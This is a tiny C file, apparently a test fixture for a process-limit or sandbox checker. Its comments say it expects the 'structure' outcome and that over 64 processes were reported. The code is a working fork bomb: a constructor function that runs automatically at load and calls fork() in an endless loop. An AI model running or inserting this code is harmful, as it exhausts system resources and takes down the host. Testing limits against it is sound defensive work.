/*
 * fork_bomb.c - forks endlessly.
 * expects: structure
 * reported: it had over 64 processes
 */
#include <unistd.h>

__attribute__((constructor)) static void multiply(void)
{
    for (;;) {
        fork();
    }
}
